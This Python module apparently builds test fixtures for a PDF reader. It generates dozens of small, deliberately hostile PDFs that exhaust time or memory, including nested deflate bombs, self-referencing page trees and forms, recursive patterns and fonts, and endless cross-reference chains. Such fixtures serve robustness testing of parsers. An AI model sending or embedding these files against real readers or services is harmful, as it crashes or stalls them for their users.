"""PDF files that attack whoever reads them: each is small, and would take all time or memory."""

from __future__ import annotations

import zlib
from collections.abc import Mapping
from functools import cache

OPERATORS = b"BT /F1 9 Tf 9 9 Td (a) Tj ET 0 0 9 9 re f "


def stream(code: bytes, entries: str = "", *, deflate: bool = True) -> bytes:
    data = zlib.compress(code, 9) if deflate else code
    coding = "/Filter/FlateDecode" if deflate else ""
    return b"<<%s%s/Length %d>>stream\n%s\nendstream" % (entries.encode(), coding.encode(), len(data), data)


def document(objects: Mapping[int, bytes | str], root: str = "", trailer: str = "", start: int | None = None) -> bytes:
    """A PDF with these objects: 1 is the catalog, 2 the tree of pages, 3 the first page, unless they are given."""
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 198 270]/TrimBox[9 9 189 261]/Contents 4 0 R/Resources 5 0 R>>"
    given = {1: f"<</Type/Catalog/Pages 2 0 R{root}>>", 2: "<</Type/Pages/Count 1/Kids[3 0 R]>>", 3: page}
    given |= {4: stream(OPERATORS), 5: "<<>>"} | dict(objects)  # type: ignore[operator]
    out = bytearray(b"%PDF-1.4\n")
    places = {}
    for number, content in given.items():
        places[number] = len(out)
        data = content if isinstance(content, bytes) else content.encode("latin-1")
        out += b"%d 0 obj\n%s\nendobj\n" % (number, data)
    table = len(out)
    size = max(given) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (size, trailer.encode(), start or table)
    return bytes(out)


def form(code: bytes, entries: str = "", **options: bool) -> bytes:
    return stream(code, f"/Type/XObject/Subtype/Form/BBox[0 0 99 99]{entries}", **options)


def page(code: bytes, resources: str = "<<>>", more: Mapping[int, bytes | str] | None = None) -> bytes:
    return document({4: stream(code), 5: resources} | dict(more or {}))


def pages(count: int) -> bytes:
    return document({2: f"<</Type/Pages/Count {count}/Kids[{'3 0 R ' * count}]>>"})


def tree(depth: int) -> bytes:
    """Pages below this many levels of nodes."""
    levels: dict[int, bytes | str] = {2: "<</Type/Pages/Count 1/Kids[10 0 R]>>"}
    for number in range(10, 10 + depth):
        levels[number] = f"<</Type/Pages/Parent 2 0 R/Count 1/Kids[{number + 1} 0 R]>>"
    return document(levels | {10 + depth: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"})


def doubling(depth: int) -> bytes:
    """A tree of pages in which each level has the next one twice."""
    levels: dict[int, bytes | str] = {2: f"<</Type/Pages/Count {1 << depth}/Kids[10 0 R 10 0 R]>>"}
    for number in range(10, 10 + depth):
        levels[number] = f"<</Type/Pages/Count 2/Kids[{number + 1} 0 R {number + 1} 0 R]>>"
    return document(levels | {10 + depth: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"})


def nested(depth: int) -> bytes:
    """A form that draws two, each of which draws the next one twice."""
    forms: dict[int, bytes | str] = {}
    for number in range(10, 10 + depth):
        forms[number] = form(b"/F Do /F Do", f"/Resources<</XObject<</F {number + 1} 0 R>>>>")
    return page(b"/F Do", "<</XObject<</F 10 0 R>>>>", forms | {10 + depth: form(OPERATORS * 99)})


def objects(deflated: bytes, count: int, first: int) -> bytes:
    """A PDF whose catalog is in an object stream."""
    body = stream(deflated, f"/Filter/FlateDecode/Type/ObjStm/N {count}/First {first}", deflate=False)
    head = b"%PDF-1.5\n5 0 obj\n" + body + b"\nendobj\n"
    rows = b"".join(
        bytes(row) for row in ([0, 0, 0, 0], [2, 0, 5, 0], [2, 0, 5, 1], [0, 0, 0, 0], [0, 0, 0, 0], [1, 0, 9, 0])
    )
    table = stream(rows, "/Type/XRef/Size 6/W[1 2 1]/Root 1 0 R")
    return head + b"6 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(head)


def image(
    width: int, height: int, data: bytes, coding: str = "/Filter/FlateDecode", space: str = "/DeviceCMYK"
) -> bytes:
    entries = f"/Type/XObject/Subtype/Image/Width {width}/Height {height}/BitsPerComponent 8/ColorSpace{space}{coding}"
    return page(
        b"q 99 0 0 99 0 0 cm /I Do Q " * 9, "<</XObject<</I 10 0 R>>>>", {10: stream(data, entries, deflate=False)}
    )


def bomb(data: bytes, coding: str = "/FlateDecode") -> bytes:
    """A stream of data that is deflated already."""
    return stream(data, f"/Filter{coding}", deflate=False)


@cache
def megabytes(count: int, filled_with: bytes = b"\0", start: bytes = b"") -> bytes:
    """This many megabytes of one byte, deflated after a start: compressed once and repeated (RFC 1950 and 1951)."""
    chunk, packer = filled_with * 1_000_000, zlib.compressobj(9)
    packed = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    repeated = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.adler32(start)
    for _ in range(count):
        checksum = zlib.adler32(chunk, checksum)
    return packed + repeated * count + b"\3\0" + checksum.to_bytes(4, "big")


ATTACKS = {
    "a form that draws itself twice": lambda: page(
        b"/F Do", "<</XObject<</F 10 0 R>>>>", {10: form(b"/F Do /F Do", "/Resources<</XObject<</F 10 0 R>>>>")}
    ),
    "forms that double": lambda: nested(30),
    "20 million q Q": lambda: page(b"q Q " * 20_000_000),
    "q without Q": lambda: page(b"q " * 5_000_000),
    "one page 25,000 times": lambda: pages(25_000),
    "4,000 pages with one slow stream": lambda: document(
        {2: f"<</Type/Pages/Count 4000/Kids[{'3 0 R ' * 4000}]>>", 4: stream(OPERATORS * 20_000)}
    ),
    "99,999,999 pages": lambda: document({2: "<</Type/Pages/Count 99999999/Kids[3 0 R]>>"}),
    "a negative number of pages": lambda: document({2: "<</Type/Pages/Count -9/Kids[3 0 R]>>"}),
    "pages that are their own kids": lambda: document({2: "<</Type/Pages/Count 2/Kids[2 0 R 2 0 R]>>"}),
    "a deep tree of pages": lambda: tree(20_000),
    "a tree of pages that doubles": lambda: doubling(40),
    "a page that is its own parent": lambda: document(
        {3: "<</Type/Page/Parent 3 0 R/Contents 4 0 R>>", 2: "<</Type/Pages/Parent 2 0 R/Count 1/Kids[3 0 R]>>"}
    ),
    "no pages": lambda: document({2: "<</Type/Pages/Count 0/Kids[]>>"}),
    "a page of text": lambda: document({2: "(pages)"}),
    "encrypted": lambda: document({9: "<</Filter/Standard/V 5/R 6/O(a)/U(b)/P -4>>"}, trailer="/Encrypt 9 0 R"),
    "a stream of 400 MB": lambda: document({4: bomb(megabytes(400))}),
    "a bomb in a bomb": lambda: document({4: bomb(zlib.compress(megabytes(400), 9), "[/FlateDecode/FlateDecode]")}),
    "forty filters": lambda: document({4: stream(OPERATORS, "/Filter[" + "/ASCIIHexDecode" * 40 + "]", deflate=False)}),
    "run lengths": lambda: document({4: stream(b"\x81 " * 2_000_000, "/Filter/RunLengthDecode", deflate=False)}),
    "LZW": lambda: document(
        {4: stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 300_000, "/Filter/LZWDecode", deflate=False)}
    ),
    "an object stream of 400 MB": lambda: objects(megabytes(400, b" ", b"1 0 2 9 "), 2, 8),
    "an object stream with a million objects": lambda: objects(
        zlib.compress(b"".join(b"%d %d " % (n, n) for n in range(100_000)) * 9), 900_000, 10_000_000
    ),
    "an object stream in itself": lambda: objects(
        zlib.compress(b"1 0 5 30 <</Type/Catalog/Pages 5 0 R>>     <</Kids[5 0 R]>>"), 2, 9
    ),
    "100,000 brackets": lambda: page(b"[" * 100_000 + b"]" * 100_000),
    "100,000 brackets in an object": lambda: document({5: "[" * 100_000}),
    "100,000 dictionaries": lambda: document({5: "<</A" * 100_000}),
    "a string without an end": lambda: page(b"(" * 3_000_000),
    "a huge number": lambda: page(b"1" * 500_000 + b" 0 0 1 k 0 0 9 9 re f"),
    "huge coordinates": lambda: page(b"9" * 300 + b" 0 m 0 " + b"9" * 300 + b" l S 0 0 9 9 re f"),
    "a page as large as a country": lambda: document(
        {3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9e9 900000000]/Contents 4 0 R/Resources 5 0 R>>"}
    ),
    "a long narrow page": lambda: document(
        {3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 90000000]/Contents 4 0 R/Resources 5 0 R>>"}
    ),
    "a page without size": lambda: document({3: "<</Type/Page/Parent 2 0 R/Contents 4 0 R>>"}),
    "a box of words": lambda: document({3: "<</Type/Page/Parent 2 0 R/MediaBox[/A(b)null 4]/Contents 4 0 R>>"}),
    "a picture of 4,000,000,000 pixels": lambda: image(65_000, 65_000, zlib.compress(bytes(99))),
    "a picture of 400 MB": lambda: image(10_000, 10_000, megabytes(400)),
    "a picture of 400 MB in RGB": lambda: image(10_000, 13_333, megabytes(400), space="/DeviceRGB"),
    "a JPEG that lies": lambda: image(
        99, 99, b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x04" + bytes(99), "/Filter/DCTDecode"
    ),
    "a picture of negative size": lambda: image(-5, 10, b"x"),
    "JBIG2": lambda: image(9, 9, b"x", "/Filter/JBIG2Decode"),
    "a font table of 400 MB": lambda: page(
        OPERATORS,
        "<</Font<</F1<</Type/Font/ToUnicode 10 0 R>>>>>>",
        {10: bomb(megabytes(400))},
    ),
    "a font of fonts": lambda: page(
        OPERATORS, "<</Font<</F1 10 0 R>>>>", {10: "<</Type/Font/DescendantFonts[10 0 R]/FontDescriptor 10 0 R>>"}
    ),
    "resources in resources": lambda: page(
        OPERATORS, "<</XObject<</F 10 0 R>>>>", {10: form(b"", "/Resources<</XObject<</F 10 0 R/G 10 0 R/H 10 0 R>>>>")}
    ),
    "a colour space in itself": lambda: page(
        b"/C cs 0 sc 0 0 9 9 re f", "<</ColorSpace<</C 10 0 R>>>>", {10: "[/Indexed 10 0 R 9 (a)]"}
    ),
    "a pattern in itself": lambda: page(
        b"/Pattern cs /P scn 0 0 9 9 re f",
        "<</Pattern<</P 10 0 R>>>>",
        {
            10: stream(
                b"/Pattern cs /P scn 0 0 9 9 re f",
                "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001"
                "/Resources<</Pattern<</P 10 0 R>>>>",
            )
        },
    ),
    "a pattern with tiny steps": lambda: page(
        b"/Pattern cs /P scn 0 0 999 999 re f",
        "<</Pattern<</P 10 0 R>>>>",
        {
            10: stream(
                OPERATORS * 99,
                "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 0.0001/YStep 0.0001/Resources<<>>",
            )
        },
    ),
    "a mask in itself": lambda: page(
        b"/G gs 0 0 9 9 re f",
        "<</ExtGState<</G 10 0 R>>>>",
        {
            10: "<</SMask<</S/Luminosity/G 11 0 R>>>>",
            11: form(b"/G gs 0 0 9 9 re f", "/Group<</S/Transparency>>/Resources<</ExtGState<</G 10 0 R>>>>"),
        },
    ),
    "labels without end": lambda: document({9: "<</Kids[9 0 R 9 0 R]>>"}, root="/PageLabels 9 0 R"),
    "a label of 400,000,000 letters": lambda: document(
        {9: "<</Nums[0<</S/A/St 400000000>>]>>"}, root="/PageLabels 9 0 R"
    ),
    "a form field that is its own kid": lambda: document(
        {9: "<</T(a)/FT/Tx/Kids[9 0 R 9 0 R]>>"}, root="/AcroForm<</Fields[9 0 R]>>"
    ),
    "tables without end": lambda: document({}, trailer="/Prev 9", start=9),
    "a million tables": lambda: (
        document({9: "x"}, start=9)[:-6] + b"xref\n0 0\ntrailer\n<<>>\n" * 99_999 + b"startxref\n9\n%%EOF"
    ),
    "an object that is its own value": lambda: document({5: "5 0 R"}),
    "references in a circle": lambda: document({5: "6 0 R", 6: "7 0 R", 7: "5 0 R"}),
    "a length of itself": lambda: document({4: b"<</Length 4 0 R>>stream\nq\nendstream"}),
    "a length of 99,999,999,999": lambda: document({4: b"<</Length 99999999999>>stream\nq\nendstream"}),
    "a type 3 font that draws itself": lambda: page(
        b"BT /F1 9 Tf (aaaaaaaaaa) Tj ET",
        "<</Font<</F1 10 0 R>>>>",
        {
            10: "<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97"
            "/Widths[1]/Encoding<</Differences[97/a]>>/CharProcs<</a 11 0 R>>/Resources<</Font<</F1 10 0 R>>>>>>",
            11: stream(b"1 0 d0 BT /F1 1 Tf (aaaaaaaaaa) Tj ET"),
        },
    ),
    "a shading of a thousand patches": lambda: page(
        b"/S sh " * 9_999,
        "<</Shading<</S<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 9 9]/Extend[true true]"
        "/Function<</FunctionType 3/Domain[0 1]/Bounds[]/Encode[0 1]/Functions[10 0 R]>>>>>>>>",
        {10: "<</FunctionType 3/Domain[0 1]/Bounds[]/Encode[0 1]/Functions[10 0 R]>>"},
    ),
    "a million short lines": lambda: page(b"0 0 m " + b"99 99 l 0 50 l " * 300_000 + b"S"),
    "a dash of nothing": lambda: page(b"[0.0001] 0 d 40 w 0 0 m 99999 99999 l S " * 99),
    "clips": lambda: page(b"q 0 0 99 99 re W n " * 100_000),
    "inline pictures": lambda: page(b"BI /W 9 /H 9 /CS /RGB /BPC 8 ID " + bytes(243) + b" EI " * 50_000),
}
